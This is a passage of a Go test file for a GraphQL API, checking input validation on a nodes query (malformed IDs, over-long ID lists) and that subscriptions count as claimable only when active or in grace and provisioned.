		if len(data.Nodes) != 5 || data.Nodes[0] == nil || data.Nodes[0].ID != draft.ID || data.Nodes[1] != nil ||
			data.Nodes[2] == nil || data.Nodes[2].ID != ids.enrolledMpn || data.Nodes[3] != nil || data.Nodes[4] != nil {
			t.Fatalf("nodes = %s", r.Data)
		}
		if len(r.Errors) != 2 {
			t.Errorf("errors = %+v; want one per malformed ID", r.Errors)
		}
		for _, i := range []float64{1, 3} {
			if e := gqlErrorAt(t, r, "nodes", i); e.Code() != "INVALID_INPUT" || e.Message == "" {
				t.Errorf("error at [nodes, %v] = %+v", i, e)
			}
		}
		// More IDs than the limit is one error on the argument.
		many := make([]string, relay.MaxListValues+1)
		for i := range many {
			many[i] = draft.ID
		}
		r = ada.Do(t, query, map[string]any{"ids": many})
		wantGQLError(t, r, "INVALID_INPUT")
		if f := r.Errors[0].Extensions["field"]; f != "ids" {
			t.Errorf("error names %v; want ids", f)
		}
	})
}

// A subscription is claimable when active or in grace and provisioned: a
// PENDING one used to say true.
func TestPendingSubscriptionIsNotClaimable(t *testing.T) {
	eachDialect(t, func(t *testing.T, w *testkit.World, srv *apitest.Server) {
		subs := run[struct {
			Subscriptions []struct {
				SubscriptionID, ProvisioningState, Status string
				Claimable                                 bool
			}
		}](t, srv.Client(t, "rita"), `query($id: ID!) { customerTenant(id: $id) { subscriptions { subscriptionId provisioningState status claimable } } }`,
			map[string]any{"id": demo.Northwind.String()}, "customerTenant")
		seen := map[string]bool{}
		for _, s := range subs.Subscriptions {
			want := (s.Status == "ACTIVE" || s.Status == "IN_GRACE") && s.ProvisioningState == "PROVISIONED"
			if s.Claimable != want {
				t.Errorf("%s (%s, %s): claimable = %v", s.SubscriptionID, s.Status, s.ProvisioningState, s.Claimable)
			}
			seen[s.SubscriptionID] = s.Claimable
		}
		if claimable, ok := seen[demo.SubNotProvisioned.String()]; !ok || claimable {
			t.Errorf("the PENDING subscription %s: claimable %v, listed %v", demo.SubNotProvisioned, claimable, ok)
		}
	})
}
